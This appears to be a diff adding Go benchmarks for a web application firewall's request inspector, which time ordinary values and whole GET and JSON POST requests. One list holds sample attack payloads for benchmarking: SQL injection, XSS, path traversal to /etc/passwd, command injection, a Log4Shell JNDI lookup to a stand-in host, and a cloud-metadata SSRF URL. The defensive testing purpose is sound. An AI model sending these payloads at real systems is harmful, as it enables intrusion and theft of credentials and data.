@@ -1,0 +1,158 @@
+package filter
+
+import (
+	"net/http"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/corazawaf/libinjection-go"
+)
+
+// BenchmarkBaselineLibinjection is the yardstick for the figures below on
+// a loaded machine: one libinjection.IsSQLi call on a browser User-Agent,
+// benchmarked in the same run.
+func BenchmarkBaselineLibinjection(b *testing.B) {
+	ua := ordinaryValues[7].value
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		libinjection.IsSQLi(ua)
+	}
+}
+
+// ordinaryValues are what most requests carry: short ids, words, header
+// values, a long browser User-Agent.
+var ordinaryValues = []benignValue{
+	{KindQueryValue, "page", "2"},
+	{KindQueryValue, "sort", "price_asc"},
+	{KindQueryValue, "q", "union station parking"},
+	{KindQueryValue, "id", "550e8400-e29b-41d4-a716-446655440000"},
+	{KindQueryValue, "email", "john.doe+news@example.com"},
+	{KindHeaderValue, "Accept-Language", "en-US,en;q=0.9,fr;q=0.8"},
+	{KindHeaderValue, "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
+	{KindUserAgent, "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"},
+	{KindHeaderValue, "Referer", "https://shop.example.com/products?category=shoes&sort=price_asc&page=2"},
+	{KindCookieValue, "_ga", "GA1.1.1234567890.1700000000"},
+}
+
+var attackValues = []benignValue{
+	{KindQueryValue, "id", "1' or '1'='1' -- "},
+	{KindQueryValue, "id", "-1 union all select null,concat(user(),0x3a,database()),null--"},
+	{KindQueryValue, "q", "<svg/onload=alert(document.domain)>"},
+	{KindQueryValue, "file", "..%252f..%252f..%252fetc%252fpasswd"},
+	{KindQueryValue, "host", "127.0.0.1;cat /etc/passwd"},
+	{KindHeaderValue, "X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}"},
+	{KindQueryValue, "url", "http://169.254.169.254/latest/meta-data/"},
+	{KindBodyValue, "name", "{{7*7}}"},
+}
+
+func benchValues(b *testing.B, vals []benignValue) {
+	in, err := NewInspector(InspectorOptions{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	var dst []Hit
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		v := vals[i%len(vals)]
+		dst = in.InspectValue(dst[:0], v.kind, v.name, v.value)
+	}
+}
+
+// BenchmarkInspectValueOrdinary: ns per ordinary value (the mix above).
+func BenchmarkInspectValueOrdinary(b *testing.B) { benchValues(b, ordinaryValues) }
+
+// BenchmarkInspectValueAttack: ns per attack value.
+func BenchmarkInspectValueAttack(b *testing.B) { benchValues(b, attackValues) }
+
+// BenchmarkInspectValueShort: the common case of a short plain token.
+func BenchmarkInspectValueShort(b *testing.B) {
+	benchValues(b, []benignValue{{KindQueryValue, "page", "2"}, {KindQueryValue, "sort", "price_asc"}})
+}
+
+// BenchmarkInspectValueUserAgent: a browser User-Agent.
+func BenchmarkInspectValueUserAgent(b *testing.B) { benchValues(b, ordinaryValues[7:8]) }
+
+// BenchmarkInspectValueProse1KB: 1 KB of prose with punctuation, as a
+// comment field in a JSON body.
+func BenchmarkInspectValueProse1KB(b *testing.B) {
+	s := strings.Repeat("It's 5 o'clock -- select a plan (or two) & drop us a line at hello@example.com; thanks! ", 12)[:1024]
+	benchValues(b, []benignValue{{KindBodyValue, "comment", s}})
+}
+
+// BenchmarkInspectValueLinear checks that cost grows linearly with size
+// on a hostile shape (many openers, no closers).
+func BenchmarkInspectValueLinear(b *testing.B) {
+	for _, n := range []int{1 << 10, 1 << 14, 1 << 17} {
+		s := strings.Repeat("${{<'(%2", n/8)
+		b.Run(itoa(n), func(b *testing.B) {
+			b.SetBytes(int64(len(s)))
+			benchValues(b, []benignValue{{KindBodyValue, "x", s}})
+		})
+	}
+}
+
+func itoa(n int) string { return strconv.Itoa(n>>10) + "KiB" }
+
+// BenchmarkEngineGET: a browser GET with 5 query parameters and 10
+// ordinary headers, through the whole Engine.
+func BenchmarkEngineGET(b *testing.B) {
+	eng, err := New(Config{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	r, _ := http.NewRequest("GET", "http://shop.example.com/products/list?q=union+station&category=shoes&sort=price_asc&page=2&utm_source=google", nil)
+	r.RemoteAddr = "198.51.100.7:51234"
+	h := r.Header
+	h.Set("User-Agent", ordinaryValues[7].value)
+	h.Set("Accept", ordinaryValues[6].value)
+	h.Set("Accept-Language", "en-US,en;q=0.9,fr;q=0.8")
+	h.Set("Accept-Encoding", "gzip, deflate, br")
+	h.Set("Referer", ordinaryValues[8].value)
+	h.Set("Sec-Ch-Ua", `"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`)
+	h.Set("Sec-Ch-Ua-Platform", `"Windows"`)
+	h.Set("Sec-Fetch-Site", "same-origin")
+	h.Set("Cookie", "_ga=GA1.1.1234567890.1700000000; theme=dark")
+	h.Set("Upgrade-Insecure-Requests", "1")
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		d, err := eng.Inspect(r)
+		if err != nil || d.Blocked {
+			b.Fatal(err, d)
+		}
+	}
+}
+
+// BenchmarkEnginePOSTJSON1KB: a 1 KB JSON POST through the whole Engine.
+func BenchmarkEnginePOSTJSON1KB(b *testing.B) {
+	eng, err := New(Config{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	body := `{"customer":{"name":"Seán O'Brien","email":"sean.obrien+shop@example.com","phone":"+1 (555) 123-4567",` +
+		`"address":{"street":"123 Union St., Apt #4","city":"Springfield","zip":"62701","country":"US"}},` +
+		`"items":[{"sku":"TSHIRT-RED-M","name":"T-shirt (red, M)","qty":2,"price":"19.99"},{"sku":"MUG-01","name":"Mug","qty":1,"price":"12.50"}],` +
+		`"comment":"Please deliver after 5pm -- ring twice; the cat & dog are friendly :) Select the eco packaging if possible.",` +
+		`"coupon":"SPRING-2024","gift":false,"created_at":"2024-01-15T10:30:00Z","tags":["gift","express","union station"],` +
+		`"notes":"Call me if there is any problem with the order. Thanks a lot for the quick service last time!",` +
+		`"metadata":{"source":"web","campaign":"newsletter","ab_test":"checkout_v2","referrer":"https://www.example.com/blog/summer?ref=nav"},` +
+		`"payment":{"method":"card","last4":"4242","brand":"visa","billing_same":true}}`
+	for len(body) < 1024 {
+		body = body[:len(body)-1] + `,"pad":"` + strings.Repeat("x", 1024-len(body)-9) + `"}`
+	}
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		r, _ := http.NewRequest("POST", "http://api.example.com/v1/orders", strings.NewReader(body))
+		r.RemoteAddr = "198.51.100.7:51234"
+		r.Header.Set("Content-Type", "application/json")
+		r.Header.Set("User-Agent", "okhttp/4.12.0")
+		r.Header.Set("Accept", "application/json")
+		d, err := eng.Inspect(r)
+		if err != nil || d.Blocked {
+			b.Fatal(err, d)
+		}
+	}
+}
